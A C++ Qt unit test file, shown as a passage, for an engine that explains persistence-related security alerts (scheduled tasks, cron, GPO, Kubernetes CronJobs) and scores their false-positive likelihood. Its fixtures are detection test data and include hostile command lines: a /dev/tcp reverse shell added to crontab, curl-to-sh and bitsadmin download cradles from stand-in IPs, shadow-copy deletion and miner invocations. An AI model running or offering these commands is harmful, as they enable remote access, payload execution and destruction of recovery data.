#include "explain/BulkFinder.h"
#include "explain/Evaluation.h"
#include "explain/ExplanationEngine.h"
#include "explain/StoredEvidence.h"
#include "explain/WorkspaceExplainer.h"
#include "ingest/Importer.h"
#include "ingest/NormalizedEvent.h"
#include "knowledge/KnowledgeBase.h"
#include "store/Statement.h"
#include "store/Transaction.h"
#include "store/Workspace.h"
#include "workspace/DemoWorkspace.h"
#include "workspace/WorkspaceSettings.h"

#include <QFile>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace tb;

using Fields = QList<QPair<QString, QString>>;

class TestExplanationEngine : public QObject {
    Q_OBJECT
    QTemporaryDir m_dir;
    Workspace m_mixed;

    static NormalizedEvent event(const Fields &fields) {
        NormalizedEvent e;
        for (const auto &[column, value] : fields)
            e.set(*eventFieldByColumn(column), value);
        return e;
    }

    static ConditionSettings demoSettings() {
        ConditionSettings settings;
        for (const auto &[name, values] : DemoWorkspace::demoSettings())
            settings.insert(name, values);
        return settings;
    }

    static QStringList ids(const QList<EvidenceHit> &hits) {
        QStringList out;
        for (const EvidenceHit &h : hits)
            out << h.id;
        return out;
    }

    static ConditionSettings evaluationSettings() {
        return {{QStringLiteral("admin_accounts"), {QStringLiteral("adm_*")}},
                {QStringLiteral("management_servers"),
                 {QStringLiteral("adm-jump-01"), QStringLiteral("adm-jump-02")}},
                {QStringLiteral("internal_networks"),
                 {QStringLiteral("10.0.0.0/8"), QStringLiteral("172.16.0.0/12"),
                  QStringLiteral("192.168.0.0/16")}}};
    }

    // A workspace of both demo exports and both evaluation-set exports, imported once.
    Workspace &mixedWorkspace() {
        if (!m_mixed.isOpen()) {
            const QString path = m_dir.filePath(QStringLiteral("mixed.tunebench"));
            if (!m_mixed.open(path))
                qFatal("cannot open %s", qPrintable(path));
            for (const QString &file :
                 {QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"),
                  QStringLiteral(DEMO_DATA_DIR "/elastic_alerts.ndjson"),
                  QStringLiteral(TEST_DATA_DIR "/evaluation/eval_splunk_notables.csv"),
                  QStringLiteral(TEST_DATA_DIR "/evaluation/eval_elastic_alerts.ndjson")})
                if (!Importer(m_mixed.database()).importFile(file, {}).ok())
                    qFatal("cannot import %s", qPrintable(file));
        }
        return m_mixed;
    }

    // Every event as (id, fields), in id order.
    static QList<QPair<qint64, NormalizedEvent>> allEvents(Database &db) {
        QString columns = QStringLiteral("id");
        for (const EventFieldInfo &info : eventFields())
            columns += QStringLiteral(", ") + QLatin1String(info.column);
        Statement query = db.prepare(QStringLiteral("SELECT %1 FROM events ORDER BY id").arg(columns));
        QList<QPair<qint64, NormalizedEvent>> events;
        while (query.step()) {
            NormalizedEvent event;
            for (int f = 0; f < eventFieldCount; ++f)
                event.fields[size_t(f)] = query.columnText(f + 1);
            events.append({query.columnInt64(0), event});
        }
        return events;
    }

    // A task as the cross-alert counters know it: its own name (ASCII case-insensitive, without the
    // root folder's backslash) on the machine it lives on.
    static QString taskOnHost(const NormalizedEvent &event) {
        const QString target = event.value(EventField::TargetHost);
        QString name = event.value(EventField::TaskName);
        if (name.startsWith(QLatin1Char('\\')))
            name.remove(0, 1);
        for (QChar &c : name) {
            if (c >= QLatin1Char('A') && c <= QLatin1Char('Z'))
                c = QChar(c.unicode() - 'A' + 'a');
        }
        return name + QChar(0x1f) + (target.isEmpty() ? event.value(EventField::Host) : target);
    }

    // The folding prevalenceKey stands for, as the regular expressions it replaced.
    static QString prevalenceKeyByRegex(const QString &value) {
        static const QRegularExpression guid(
            QStringLiteral("\\{?[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\\}?"));
        static const QRegularExpression sid(QStringLiteral("s-1-\\d+(-\\d+)+"));
        static const QRegularExpression version(QStringLiteral("\\d+(\\.\\d+)+"));
        static const QRegularExpression userFolder(QStringLiteral("\\\\users\\\\[^\\\\]+\\\\"));
        QString key = value.toLower();
        key.replace(guid, QStringLiteral("{guid}"));
        key.replace(sid, QStringLiteral("sid"));
        key.replace(version, QStringLiteral("v"));
        key.replace(userFolder, QStringLiteral("\\users\\*\\"));
        return key;
    }

private slots:
    // Realistic events, the evidence they must raise, and the note and theme that must come first.
    void explainsEvents_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QString>("topTheme");
        QTest::addColumn<QStringList>("expectedEvidence");
        QTest::addColumn<QStringList>("expectedCounter");
        QTest::addColumn<bool>("likelyFalsePositive");

        QTest::newRow("installer registers a vendor updater as SYSTEM")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"parent_name", "msiexec.exe"},
                      {"parent_image", "C:\\Windows\\System32\\msiexec.exe"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks.exe /Create /TN \"Adobe Acrobat Update Task\" /TR \"C:\\Program Files "
                       "(x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe\" /SC DAILY /RU SYSTEM"},
                      {"task_name", "\\Adobe Acrobat Update Task"},
                      {"task_action", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"},
                      {"task_run_as", "SYSTEM"},
                      {"user", "SYSTEM"}}
            << "system_task_by_application" << QStringList{"installer_parent", "vendor_task_name"}
            << QStringList{} << true;
        QTest::newRow("encoded PowerShell from Temp parent")
            << Fields{{"rule_name", "Windows Schtasks Create Run As System"},
                      {"parent_name", "invoice_viewer.exe"},
                      {"parent_image", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\invoice_viewer.exe"},
                      {"process_name", "schtasks.exe"},
                      {"command_line",
                       "schtasks /create /sc onlogon /tn WindowsDefenderUpdate /tr \"powershell.exe -nop -w "
                       "hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\" /ru SYSTEM /rl HIGHEST"},
                      {"task_name", "\\WindowsDefenderUpdate"},
                      {"task_action",
                       "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
                      {"task_run_as", "SYSTEM"},
                      {"user", "jdoe"}}
            << "system_task_by_application" << QStringList{}
            << QStringList{"encoded_powershell_action", "hidden_window_action"} << false;
        QTest::newRow("crontab reverse shell")
            << Fields{{"rule_name", "Linux Possible Append Cronjob Entry on Existing Cronjob File"},
                      {"process_name", "bash"},
                      {"command_line",
                       "bash -c echo '* * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> /etc/crontab"},
                      {"target_path", "/etc/crontab"},
                      {"user", "www-data"},
                      {"platform", "linux"}}
            << "linux_admin" << QStringList{} << QStringList{"reverse_shell"} << false;
        QTest::newRow("GPO ScheduledTasks.xml from the DC itself")
            << Fields{{"rule_name", "Persistence and Execution at Scale via GPO Scheduled Task"},
                      {"event_code", "5145"},
                      {"target_path",
                       "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
                       "\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"},
                      {"source_ip", "127.0.0.1"},
                      {"user", "adm_gpo"},
                      {"host", "dc01"}}
            << "gpo_localhost" << QStringList{} << QStringList{} << true;
        QTest::newRow("GPO ScheduledTasks.xml from a remote address")
            << Fields{{"rule_name", "Persistence and Execution at Scale via GPO Scheduled Task"},
                      {"event_code", "5145"},
                      {"target_path",
                       "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
                       "\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"},
                      {"source_ip", "198.51.100.37"},
                      {"user", "adm_gpo"},
                      {"host", "dc01"}}
            << "gpo_localhost" << QStringList{} << QStringList{"gpo_edit_from_remote_address"} << false;
        QTest::newRow("GitLab CI deploy job re-creates a CronJob from inside the cluster")
            << Fields{{"rule_name", "Kubernetes Cron Job Creation"},
                      {"platform", "kubernetes"},
                      {"user", "system:serviceaccount:gitlab-runner:gitlab-runner"},
                      {"user_agent", "kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47"},
                      {"source_ip", "10.42.1.104"},
                      {"k8s_namespace", "data"},
                      {"k8s_resource", "cronjobs"},
                      {"task_name", "data/etl-nightly"}}
            << "kubernetes_cronjob" << QStringList{"k8s_cicd_service_account", "software:kubectl_ci"}
            << QStringList{} << true;
    }
    void explainsEvents() {
        QFETCH(Fields, fields);
        QFETCH(QString, topTheme);
        QFETCH(QStringList, expectedEvidence);
        QFETCH(QStringList, expectedCounter);
        QFETCH(bool, likelyFalsePositive);
        const KnowledgeBase &kb = KnowledgeBase::builtIn();
        const ExplanationEngine engine(kb, demoSettings());
        Prevalence prevalence; // a task seen on one host of thirty
        prevalence.taskNameHosts = prevalence.taskActionHosts = 1;
        prevalence.workspaceHosts = 30;
        const Explanation e = engine.explain(event(fields), prevalence);
        QVERIFY(!e.ruleId.isEmpty());
        QVERIFY(!e.notes.isEmpty());
        QCOMPARE(kb.note(e.notes.first().noteId)->theme, topTheme);
        QStringList support;
        for (const NoteExplanation &n : e.notes)
            support << ids(n.evidence);
        for (const QString &id : expectedEvidence)
            QVERIFY2(support.contains(id),
                     qPrintable(id + QStringLiteral(" not in ") + support.join(QLatin1Char(','))));
        for (const QString &id : expectedCounter)
            QVERIFY2(
                ids(e.counterEvidence).contains(id),
                qPrintable(id + QStringLiteral(" not in ") + ids(e.counterEvidence).join(QLatin1Char(','))));
        QCOMPARE(e.fpLikelihood >= 50, likelyFalsePositive);
        // Every point is traceable: the likelihood is the sum of its named terms, clamped.
        int sum = 0;
        for (const EvidenceHit &term : e.likelihoodBreakdown)
            sum += term.points;
        QCOMPARE(e.fpLikelihood, std::clamp(sum, 0, 100));
    }

    // Each predicate and catalog entry added for the administrators', vendors' and attackers'
    // behaviour the evaluation set exposed: the events it must fire on, and look-alikes it must not.
    void evidenceFires_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QString>("evidence"); // a predicate id or software:<id>
        QTest::addColumn<bool>("fires");
        const Fields schedulerChild{
            {"parent_name", "svchost.exe"},
            {"parent_command_line", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"}};
        auto with = [](Fields base, const Fields &more) { return base << more; };
        QTest::newRow("forfiles deletes old logs")
            << with(schedulerChild,
                    {{"process_name", "forfiles.exe"},
                     {"command_line",
                      "forfiles.exe /p \"D:\\Logs\" /s /m *.log /d -30 /c \"cmd /c del /q @path\""}})
            << "forfiles_log_retention" << true;
        QTest::newRow("forfiles runs something else")
            << with(schedulerChild,
                    {{"process_name", "forfiles.exe"},
                     {"command_line", "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe"}})
            << "forfiles_log_retention" << false;
        QTest::newRow("msiexec from a server share")
            << with(schedulerChild,
                    {{"process_name", "msiexec.exe"},
                     {"command_line", "msiexec.exe /i \"\\\\fs-01\\deploy$\\Agent\\Agent-3.2.1.msi\" /qn"}})
            << "msiexec_from_file_share" << true;
        QTest::newRow("msiexec from a share named by IP address")
            << with(schedulerChild, {{"process_name", "msiexec.exe"},
                                     {"command_line", "msiexec.exe /i \\\\198.51.100.7\\s\\a.msi /qn"}})
            << "msiexec_from_file_share" << false;
        QTest::newRow("bitsadmin fetches a file for a line-of-business job")
            << with(schedulerChild,
                    {{"process_name", "bitsadmin.exe"},
                     {"command_line",
                      "bitsadmin.exe /transfer Rates /download https://fs-01.corp.example/r.zip "
                      "D:\\App\\import\\r.zip"}})
            << "bitsadmin_download_to_user_folder" << false;
        QTest::newRow("bitsadmin drops into ProgramData (T1197)")
            << Fields{{"process_name", "bitsadmin.exe"},
                      {"command_line",
                       "bitsadmin /transfer j /download /priority high http://198.51.100.7/a.exe "
                       "C:\\ProgramData\\a.exe"}}
            << "bitsadmin_download_to_user_folder" << true;
        QTest::newRow("bitsadmin chains a run")
            << Fields{{"process_name", "bitsadmin.exe"},
                      {"command_line",
                       "bitsadmin /transfer j http://198.51.100.7/a.exe D:\\x\\a.exe & D:\\x\\a.exe"}}
            << "bitsadmin_download_to_user_folder" << true;
        QTest::newRow("bitsadmin notify command (BITS persistence)")
            << Fields{{"process_name", "bitsadmin.exe"},
                      {"command_line", "bitsadmin /SetNotifyCmdLine j C:\\Windows\\System32\\cmd.exe NULL"}}
            << "bitsadmin_download_to_user_folder" << true;
        QTest::newRow("systemctl with an option before the verb")
            << Fields{{"process_name", "systemctl"},
                      {"command_line", "systemctl --quiet reload apache2.service"},
                      {"parent_command_line", "/bin/sh /usr/sbin/invoke-rc.d apache2 reload"}}
            << "systemctl_service_management" << true;
        QTest::newRow("Salt writes a crontab through its temp file")
            << Fields{{"process_name", "crontab"},
                      {"command_line", "crontab -u root /tmp/__salt.tmp.ahtiifqa"},
                      {"parent_command_line", "/opt/saltstack/salt/bin/python3.10 /usr/bin/salt-minion"}}
            << "command_in_world_writable_path" << false;
        QTest::newRow("a shell installs a crontab named like Salt's temp file")
            << Fields{{"process_name", "crontab"},
                      {"command_line", "crontab -u root /tmp/__salt.tmp.ahtiifqa"},
                      {"parent_command_line", "/bin/bash"}}
            << "command_in_world_writable_path" << true;
        const Fields aptUnpacks{{"process_name", "dpkg"},
                                {"command_line",
                                 "/usr/bin/dpkg --status-fd 10 --no-triggers --unpack --auto-deconfigure "
                                 "--recursive /tmp/apt-dpkg-install-2c969f"},
                                {"target_path", "/etc/cron.d/sysstat"}};
        QTest::newRow("unattended-upgrades unpacks from apt's staging folder")
            << with(aptUnpacks, {{"parent_command_line", "/usr/bin/python3 /usr/bin/unattended-upgrade"}})
            << "command_in_world_writable_path" << false;
        QTest::newRow("apt-get unpacks from its staging folder")
            << with(aptUnpacks, {{"parent_command_line", "apt-get -y upgrade"}})
            << "command_in_world_writable_path" << false;
        QTest::newRow("a shell installs a package from its own Temp folder")
            << with(aptUnpacks, {{"parent_command_line", "/bin/sh -c dpkg -i /tmp/apt-dpkg-install-2c969f"}})
            << "command_in_world_writable_path" << true;
        QTest::newRow("dpkg -i of a downloaded package")
            << Fields{{"process_name", "dpkg"},
                      {"command_line", "dpkg -i /tmp/update.deb"},
                      {"parent_command_line", "apt-get -y upgrade"}}
            << "command_in_world_writable_path" << true;
        QTest::newRow("Puppet installs a crontab through its temporary file")
            << Fields{{"process_name", "crontab"},
                      {"command_line",
                       "/usr/bin/crontab -u root /tmp/puppet_suidmanager20270505-33704-1246be2"},
                      {"parent_command_line",
                       "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet "
                       "agent --onetime --no-daemonize"}}
            << "command_in_world_writable_path" << false;
        QTest::newRow("a shell installs a crontab named like Puppet's")
            << Fields{{"process_name", "crontab"},
                      {"command_line",
                       "/usr/bin/crontab -u root /tmp/puppet_suidmanager20270505-33704-1246be2"},
                      {"parent_command_line", "/bin/bash"}}
            << "command_in_world_writable_path" << true;
        QTest::newRow("the Puppet agent writes the file itself")
            << Fields{{"process_name", "ruby"},
                      {"command_line", "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet "
                                       "agent --onetime --no-daemonize"},
                      {"target_path", "/etc/sudoers.d/zabbix_agent"}}
            << "config_management_process" << true;
        QTest::newRow("Tekton pipeline service account")
            << Fields{{"user", "system:serviceaccount:tekton-ci:pipeline-deployer"},
                      {"k8s_resource", "cronjobs"},
                      {"k8s_verb", "create"}}
            << "k8s_cicd_service_account" << true;
        const Fields jobByController{{"user", "system:serviceaccount:kube-system:cronjob-controller"},
                                     {"k8s_resource", "jobs"},
                                     {"k8s_verb", "create"}};
        QTest::newRow("the control plane calls the API server over the loopback")
            << with(jobByController, {{"source_ip", "127.0.0.1"}}) << "k8s_request_from_outside" << false;
        QTest::newRow("... and over IPv6 loopback")
            << with(jobByController, {{"source_ip", "::1"}}) << "k8s_request_from_outside" << false;
        QTest::newRow("an internal address")
            << with(jobByController, {{"source_ip", "10.42.5.230"}}) << "k8s_request_from_outside" << false;
        QTest::newRow("an outside address")
            << with(jobByController, {{"source_ip", "203.0.113.9"}}) << "k8s_request_from_outside" << true;
        QTest::newRow("an administrator edits a cron file with vim")
            << Fields{{"process_name", "vim.basic"},
                      {"command_line", "vim /etc/cron.d/zabbix-housekeeping"},
                      {"target_path", "/etc/cron.d/zabbix-housekeeping"}}
            << "editor_on_scheduler_file" << true;
        QTest::newRow("an editor on a file outside the scheduler's folders")
            << Fields{{"process_name", "vim"}, {"target_path", "/tmp/notes.txt"}}
            << "editor_on_scheduler_file" << false;
        QTest::newRow("a shell appends to a cron file")
            << Fields{{"process_name", "bash"},
                      {"command_line", "bash -c echo '* * * * * root /tmp/x' >> /etc/crontab"},
                      {"target_path", "/etc/crontab"}}
            << "editor_on_scheduler_file" << false;
        const Fields adobeUpdaterRuns{
            {"process_image", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"},
            {"process_name", "AdobeARM.exe"}};
        QTest::newRow("the Task Scheduler starts a catalogued updater")
            << with(adobeUpdaterRuns, schedulerChild) << "software:adobe_arm" << true;
        QTest::newRow("... from Program Files")
            << with(adobeUpdaterRuns, schedulerChild) << "scheduled_program_in_program_files" << true;
        QTest::newRow("the same program started by a user is not a task")
            << with(adobeUpdaterRuns, {{"parent_command_line", "C:\\Windows\\explorer.exe"}})
            << "scheduled_program_in_program_files" << false;
        QTest::newRow("the Task Scheduler starts a program from ProgramData")
            << with(schedulerChild, {{"process_image", "C:\\ProgramData\\x\\AdobeARM.exe"}})
            << "scheduled_program_in_program_files" << false;
        QTest::newRow("a task deletes the shadow copies (T1490)")
            << Fields{{"task_action", "cmd.exe /c vssadmin delete shadows /all /quiet"}}
            << "recovery_inhibition_action" << true;
        QTest::newRow("schtasks creates a task that disables recovery")
            << Fields{{"command_line",
                       "schtasks /create /tn x /tr \"bcdedit /set {default} recoveryenabled No\" /sc once"}}
            << "recovery_inhibition_command" << true;
        QTest::newRow("wbadmin deletes the backup catalog")
            << Fields{{"command_line", "wbadmin delete catalog -quiet"}} << "recovery_inhibition_command"
            << true;
        QTest::newRow("listing shadow copies is not deleting them")
            << Fields{{"command_line", "vssadmin list shadows"}} << "recovery_inhibition_command" << false;
        QTest::newRow("systemd starts the Kinsing miner")
            << Fields{{"command_line", "systemctl start kdevtmpfsi"}} << "miner_program" << true;
        QTest::newRow("a cron line with a stratum pool")
            << Fields{{"task_action", "/tmp/.x/sys -o stratum+tcp://198.51.100.4:3333 -B"}} << "miner_action"
            << true;
        QTest::newRow("an ordinary service restart")
            << Fields{{"command_line", "systemctl restart grafana-server.service"}} << "miner_program"
            << false;
        const Fields oneDriveUpdateTask{
            {"task_name",
             "\\OneDrive Standalone Update Task-S-1-5-21-2871630455-1190448213-3304958826-6988"}};
        QTest::newRow("a OneDrive-named task running rundll32 on a DLL")
            << with(oneDriveUpdateTask,
                    {{"task_action", "rundll32.exe C:\\Users\\gikeda\\AppData\\Roaming\\"
                                     "Microsoft\\OneDrive\\ondrvupd.dll,DllRegisterServer"}})
            << "software_masquerade:microsoft_onedrive" << true;
        QTest::newRow("... borrows no support from the name")
            << with(oneDriveUpdateTask,
                    {{"task_action", "rundll32.exe C:\\Users\\gikeda\\AppData\\Roaming\\"
                                     "Microsoft\\OneDrive\\ondrvupd.dll,DllRegisterServer"}})
            << "software:microsoft_onedrive" << false;
        QTest::newRow("the real OneDrive updater")
            << with(oneDriveUpdateTask, {{"task_action", "%localappdata%\\Microsoft\\OneDrive\\"
                                                         "OneDriveStandaloneUpdater.exe /reporting"}})
            << "software_masquerade:microsoft_onedrive" << false;
        QTest::newRow("a vendor program from the vendor's folder, not in the binaries list")
            << Fields{{"task_name", "\\NvTmRep_CrashReport1_{B2FE1952-0186-46C3-BAEC-A80AA35AC5B8}"},
                      {"task_action",
                       "\"C:\\Program Files\\NVIDIA Corporation\\NvTmRep\\NvTmRep.exe\" --crash-report"}}
            << "software_masquerade:nvidia" << false;
        QTest::newRow("a vendor task name with no action shown")
            << oneDriveUpdateTask << "software_masquerade:microsoft_onedrive" << false;
        QTest::newRow("Rancher Fleet agent")
            << Fields{{"rule_name", "Kubernetes Cron Job Creation"},
                      {"user", "system:serviceaccount:cattle-fleet-system:fleet-agent"},
                      {"user_agent", "fleetagent/v0.11.4 (linux/amd64) kubernetes/$Format"},
                      {"k8s_resource", "cronjobs"},
                      {"k8s_verb", "create"}}
            << "software:rancher-fleet" << true;
        QTest::newRow("Veeam script in ProgramData")
            << with(
                   schedulerChild,
                   {{"process_name", "cscript.exe"},
                    {"command_line", "cscript.exe //nologo \"C:\\ProgramData\\Veeam\\Scripts\\notify.vbs\""}})
            << "command_programdata_vendor" << true;
        QTest::newRow("msiexec from a URL (T1218.007)")
            << Fields{{"process_name", "msiexec.exe"},
                      {"command_line", "msiexec.exe /q /i \"http://198.51.100.7/a.msi\""}}
            << "msiexec_from_url" << true;
        QTest::newRow("admin script from a local folder")
            << Fields{{"process_name", "powershell.exe"},
                      {"command_line",
                       "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile "
                       "-ExecutionPolicy Bypass -File \"C:\\Ops\\Register-DbMaintenance.ps1\""}}
            << "admin_script_file" << true;
        QTest::newRow("admin script from a share")
            << Fields{{"process_name", "powershell.exe"},
                      {"command_line",
                       "powershell.exe -ExecutionPolicy Bypass -File \\\\fs-01\\scripts$\\Cleanup.ps1"}}
            << "admin_script_file" << true;
        QTest::newRow("script from the user's Temp folder")
            << Fields{{"process_name", "powershell.exe"},
                      {"command_line",
                       "powershell.exe -ep bypass -File C:\\Users\\a\\AppData\\Local\\Temp\\x.ps1"}}
            << "admin_script_file" << false;
        QTest::newRow("task runs an admin script")
            << Fields{{"task_action", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
                                      "D:\\Scripts\\IISLogCleanup.ps1"}}
            << "admin_script_action" << true;
        QTest::newRow("curl piped into sh in the parent")
            << Fields{{"process_name", "crontab"},
                      {"command_line", "crontab -l"},
                      {"parent_command_line",
                       "bash -c (crontab -l 2>/dev/null; echo '@reboot (curl -fsSL "
                       "http://203.0.113.150/ldr.sh||wget -q -O- http://203.0.113.150/ldr.sh)|sh') "
                       "| crontab -"}}
            << "download_cradle_parent" << true;
        QTest::newRow("regsvr32 on a DLL in AppData (Qakbot)")
            << with(schedulerChild,
                    {{"process_name", "regsvr32.exe"},
                     {"command_line",
                      "regsvr32.exe -s \"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Khwg\\g.dll\""}})
            << "dll_from_user_writable_command" << true;
        QTest::newRow("rundll32 on a vendor DLL in Program Files")
            << with(schedulerChild,
                    {{"process_name", "rundll32.exe"},
                     {"command_line",
                      "rundll32.exe \"C:\\Program Files\\NVIDIA Corporation\\x\\nvx.dll\",Run"}})
            << "dll_from_user_writable_command" << false;
        QTest::newRow("task action rundll32 on a ProgramData OCX (Emotet)")
            << Fields{{"task_action", "rundll32.exe C:\\ProgramData\\Qvnfk\\wxyz.ocx,DllRegisterServer"}}
            << "dll_from_user_writable_action" << true;
        QTest::newRow("mshta with a quoted path and a URL")
            << Fields{{"command_line",
                       "\"C:\\Windows\\system32\\mshta.exe\" http://198.51.100.45/docs/view.hta"}}
            << "download_cradle_command" << true;
        QTest::newRow("Atomic Red Team systemd timer (T1053.006)")
            << Fields{{"process_name", "systemctl"}, {"command_line", "systemctl enable art-timer.timer"}}
            << "atomic_red_team_names" << true;
        QTest::newRow("Atomic Red Team cron file (T1053.003)")
            << Fields{{"target_path", "/etc/cron.daily/persistevil"}} << "atomic_red_team_file" << true;
        QTest::newRow("Flux helm-controller user agent")
            << Fields{{"user_agent", "helm-controller/v1.1.0 (linux/amd64) kubernetes/$Format"}}
            << "k8s_gitops_user_agent" << true;
        QTest::newRow("Flux service account and user agent")
            << Fields{{"user", "system:serviceaccount:flux-system:helm-controller"},
                      {"user_agent", "helm-controller/v1.1.0 (linux/amd64) kubernetes/$Format"}}
            << "software:flux" << true;
        QTest::newRow("Argo CD service account with kubectl is not the controller")
            << Fields{{"user", "system:serviceaccount:argocd:argocd-application-controller"},
                      {"user_agent", "kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47"}}
            << "software:argocd" << false;
        QTest::newRow("AMD Software logon task")
            << Fields{{"task_name", "\\StartCN"}} << "software:amd_software" << true;
        QTest::newRow("SYSTEM registers a task")
            << Fields{{"user", "SYSTEM"}, {"process_name", "schtasks.exe"}} << "system_account_actor" << true;
        QTest::newRow("a task the scheduler started runs as SYSTEM")
            << with(schedulerChild, {{"user", "SYSTEM"}, {"process_name", "regsvr32.exe"}})
            << "system_account_actor" << false;
    }
    void evidenceFires() {
        QFETCH(Fields, fields);
        QFETCH(QString, evidence);
        QFETCH(bool, fires);
        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
        Prevalence prevalence;
        const Explanation e = engine.explain(event(fields), prevalence);
        QStringList found = ids(e.counterEvidence);
        for (const EvidenceHit &term : e.likelihoodBreakdown)
            found << term.id;
        QVERIFY2(found.contains(evidence) == fires, qPrintable(found.join(QLatin1Char(','))));
    }

    // An event that no rule with notes fired on (raw telemetry, a rule outside the catalog, a rule
    // whose authors name no false positive) takes the notes of the first catalogued rule whose query
    // it matches; the base says which.
    void detectingRuleLendsItsNotes_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QString>("base");      // the id of the likelihood's first term
        QTest::addColumn<QString>("firstNote"); // empty: none
        const QString created =
            QStringLiteral("base:detected_by:elastic:92a6faf5-78ec-4e25-bea1-73bacc9b59d9");
        QTest::newRow("Security 4698 by a user")
            << Fields{{"rule_name", "Windows 4698 Scheduled task created"},
                      {"rule_source", "raw"},
                      {"event_code", "4698"},
                      {"user", "jdoe"},
                      {"task_name", "\\Backup"}}
            << created << "t1053-29";
        QTest::newRow("TaskScheduler 106, the same registration")
            << Fields{{"rule_name", "Windows 106 Task registered"}, {"event_code", "106"}, {"user", "jdoe"}}
            << created << "t1053-29";
        QTest::newRow("a machine account: the rule excludes it")
            << Fields{{"rule_name", "Windows 4698 Scheduled task created"},
                      {"event_code", "4698"},
                      {"user", "WKS-FIN-023$"}}
            << "base:unknown_rule"
            << "";
        QTest::newRow("Sysmon process creation of schtasks /create")
            << Fields{{"rule_name", "Windows 1 Sysmon process created"},
                      {"event_code", "1"},
                      {"process_name", "schtasks.exe"},
                      {"command_line", "schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /sc daily"},
                      {"user", "jdoe"}}
            << "base:detected_by:sigma:92626ddd-662c-49e3-ac59-f6535f12d189"
            << "t1053-01";
        QTest::newRow("an alert of a rule that names no false positive")
            << Fields{{"rule_name", "Schtasks Creation Or Modification With SYSTEM Privileges"},
                      {"process_name", "schtasks.exe"},
                      {"command_line", "schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /ru SYSTEM"},
                      {"user", "adm_jdoe"}}
            << "base:detected_by:sigma:92626ddd-662c-49e3-ac59-f6535f12d189"
            << "t1053-01";
        QTest::newRow("schtasks /create by SYSTEM: the rule excludes it")
            << Fields{{"event_code", "1"},
                      {"process_name", "schtasks.exe"},
                      {"command_line", "schtasks /create /tn Sync /tr C:\\Tools\\sync.exe"},
                      {"user", "SYSTEM"}}
            << "base:unknown_rule"
            << "";
        QTest::newRow("a fired rule with notes keeps them")
            << Fields{{"rule_name", "Scheduled Task Creation Via Schtasks.EXE"},
                      {"event_code", "4698"},
                      {"user", "jdoe"}}
            << "base:notes"
            << "t1053-01";
        QTest::newRow("auditd: crontab -e") << Fields{{"rule_name", "T1053_cron"},
                                                      {"process_name", "crontab"},
                                                      {"command_line", "crontab -e"}}
                                            << "base:detected_by:splunk:0d370304-5f26-11ec-a4bb-acde48001122"
                                            << "";
        QTest::newRow("Sysmon for Linux: a file in /etc/cron.d")
            << Fields{{"rule_name", "Linux 11 Sysmon file created"}, {"target_path", "/etc/cron.d/sysstat"}}
            << "base:detected_by:sigma:6c4e2f43-d94d-4ead-b64d-97e53fa2bd05"
            << "t1053-08";
        QTest::newRow("a file elsewhere")
            << Fields{{"rule_name", "Linux 11 Sysmon file created"}, {"target_path", "/etc/hosts"}}
            << "base:unknown_rule"
            << "";
    }
    void detectingRuleLendsItsNotes() {
        QFETCH(Fields, fields);
        QFETCH(QString, base);
        QFETCH(QString, firstNote);
        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
        const Explanation e = engine.explain(event(fields), Prevalence());
        QVERIFY(!e.likelihoodBreakdown.isEmpty());
        QCOMPARE(e.likelihoodBreakdown.first().id, base);
        QVERIFY(!e.likelihoodBreakdown.first().sentence.isEmpty());
        if (!firstNote.isEmpty()) {
            QVERIFY(!e.notes.isEmpty());
            QCOMPARE(e.notes.first().noteId, firstNote);
        }
        // The alert's own rule stays what it resolved to.
        const Rule *fired =
            KnowledgeBase::builtIn().resolveRule(event(fields).value(EventField::RuleName), {}, {});
        QCOMPARE(e.ruleId, fired ? fired->id : QString());
    }

    // A task runs every action, not only the first: an action appended to a vendor's task is checked
    // like the first one, and a catalogued task whose other actions run none of the product's
    // programs is a masquerade.
    void otherActionsAreChecked_data() {
        QTest::addColumn<Fields>("fields");
        QTest::addColumn<QStringList>("counter");
        QTest::addColumn<QStringList>("notCounter");
        QTest::addColumn<bool>("likelyFalsePositive");
        const QString google =
            QStringLiteral("\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /c");
        const Fields googleTask{
            {"rule_name", "Windows 4698 Scheduled task created"},
            {"rule_source", "raw"},
            {"event_code", "4698"},
            {"user", "jdoe"},
            {"task_name", "\\GoogleUpdateTaskMachineCore{3A1B4C5D-0000-4E5F-9A8B-7C6D5E4F3A2B}"},
            {"task_action", google},
